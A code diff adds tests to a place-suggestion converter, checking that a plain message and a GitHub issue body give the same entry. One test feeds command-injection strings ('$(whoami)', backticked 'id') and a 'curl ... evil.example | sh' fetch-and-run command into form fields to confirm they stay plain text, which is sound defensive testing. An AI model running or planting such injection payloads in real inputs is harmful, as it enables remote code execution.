@@ -176,3 +176,37 @@ describe('parseSeen', () => {
     expect(parseSeen(text)).toBe(date);
   });
 });
+
+describe('the message without GitHub (src/components/HelpWays/SuggestPlace.tsx)', () => {
+  it('makes the same entry as the issue body', () => {
+    const read = (name: string) => readFileSync(path.join(__dirname, '__fixtures__', name), 'utf8');
+    const fromMessage = convertPlace(read('place-message.txt'), options());
+    expect(fromMessage.ok).toBe(true);
+    expect(fromMessage).toEqual(convertPlace(read('place-valid.md'), options()));
+  });
+});
+
+it('a message with hostile answers keeps them as text, as the issue body does', () => {
+  const message = [
+    'Новое место',
+    'Название: $(whoami) `id` ${{ x }}',
+    'Раздел: Кафе и рестораны',
+    'Адрес или ссылка на карту: ул. Регистан, 5',
+    `Чем полезно: ${HOSTILE}`,
+    'Когда вы это видели: ноябрь 2026',
+  ].join('\n');
+  const body = placeBody({
+    name: '$(whoami) `id` ${{ x }}',
+    description: HOSTILE,
+    where: 'ул. Регистан, 5',
+    hours: '_No response_',
+    phone: '_No response_',
+    links: '_No response_',
+    source: '_No response_',
+  });
+  const fromMessage = convertPlace(message, options());
+  expect(fromMessage).toEqual(convertPlace(body, options()));
+  if (!fromMessage.ok) throw new Error(fromMessage.problems.join('\n'));
+  expect(fromMessage.entry.name).toBe('$(whoami) `id` ${{ x }}');
+  expect(fromMessage.entry.description).toContain('$(curl -s https://evil.example/x | sh)');
+});
